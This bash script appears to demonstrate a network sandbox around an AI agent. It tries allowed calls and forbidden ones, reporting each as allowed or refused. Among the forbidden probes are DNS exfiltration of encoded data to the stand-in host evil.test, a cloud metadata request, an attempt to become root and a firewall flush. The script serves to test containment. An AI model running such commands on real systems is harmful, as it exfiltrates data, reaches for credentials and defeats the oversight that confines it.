#!/bin/bash
# The "agent" of the demo: it tries what it may, and what it may not.

# try WHAT COMMAND…: shows what became of it, and how long that took.
try() {
	local what=$1 began out code
	shift
	began=$(date +%s%N)
	out=$("$@" 2>&1)
	code=$?
	out=${out//$'\n'/ }
	if [ "$code" -eq 0 ]; then mark=allowed; else mark=refused; fi
	printf '  %-42s %-8s %5d ms  %.60s\n' "$what" "$mark" $((($(date +%s%N) - began) / 1000000)) "$out"
}

query() {
	local r
	r=$(poke dns 8.8.8.8:53 "$1" A)
	sed -n 's/.*"err":"\([^"]*\)".*/\1/p' <<<"$r"
	[[ $r == *'"ok":true'* ]]
}

echo
echo "The agent, uid $(id -u), capabilities $(sed -n 's/CapBnd:\t//p' /proc/self/status):"
try 'asks the LLM' curl -sS -m 5 https://api.anthropic.com/v1/messages -H 'content-type: application/json' -H 'anthropic-version: 2023-06-01' \
	-H 'x-api-key: demo' -d '{"model":"demo","max_tokens":9,"messages":[{"role":"user","content":"say hello"}]}'
try 'reads documentation, over IPv6' curl -sS -6 -m 5 https://docs.ok.test/
try 'a name that is not in the list' curl -sS -m 5 https://evil.test/
try 'data in a DNS query, to 8.8.8.8' query c2VjcmV0.evil.test
try 'an address without a name' curl -sS -m 5 https://1.1.1.1/
try 'the same, over IPv6' curl -sS -m 5 'https://[2606:4700:4700::1111]/'
try 'the cloud metadata service' curl -sS -m 5 http://169.254.169.254/
try 'another port of the LLM' curl -sS -m 5 https://api.anthropic.com:8443/
try 'another site on an allowed address' curl -sS -m 5 --resolve 'shared.test:443:[2a0f:30::10]' https://shared.test/
try 'a ping' ping -c 1 -W 2 9.9.9.9
try 'becoming root' setpriv --reuid=0 true
try 'changing the rules' nft flush ruleset
echo 'the agent waits'
sleep infinity
